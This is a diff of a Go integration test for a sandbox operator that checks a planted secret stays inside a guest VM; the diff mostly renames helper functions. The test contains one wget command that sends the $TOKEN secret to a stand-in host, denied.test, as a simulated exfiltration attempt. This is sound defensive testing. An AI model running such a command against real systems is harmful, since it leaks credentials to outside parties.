@@ -11,7 +11,7 @@ import (
 	"botbottle.dev/bottle-operator/test/builders"
 )
 
-func TestASecretIsNowhereElse(t *testing.T) {
+func TestSecretIsContained(t *testing.T) {
 	t.Parallel()
 	const planted = "s3cr3t-planted-91d4e7"
 	c := connect(t)
@@ -22,15 +22,15 @@ func TestASecretIsNowhereElse(t *testing.T) {
 	}
 	b := builders.MakeBottle("secret").Namespace(ns).Slug("secret").EnvFromSecret("TOKEN", "agent", "token").Pin(node1).Obj()
 	c.Apply(t, b)
-	c.WaitRuns(t, b)
+	c.WaitRunning(t, b)
 	if got := guestEnv(c.Guest(t, b, "cat", "/proc/self/environ"))["TOKEN"]; got != planted {
 		t.Fatalf("TOKEN in the guest: got %q, want the Secret's value", got)
 	}
-	// Also after it was tried to send it away.
+	// The value must also not leak through an attempt to send it out.
 	c.TryExec(t, node1, "smolvm", "machine", "exec", "--name", "bottle-secret-"+string(b.UID)[:8], "--", "sh", "-c",
 		"wget -qO- \"http://denied.test/$TOKEN?q=$TOKEN\" --header \"X: $TOKEN\"")
-	c.SecretNowhere(t, b, planted)
-	c.Gone(t, b)
+	c.WantSecretContained(t, b, planted)
+	c.DeleteAndWait(t, b)
 	wantNothingLeft(t, c, node1, b)
-	c.SecretGone(t, node1, planted)
+	c.WantSecretGone(t, node1, planted)
 }
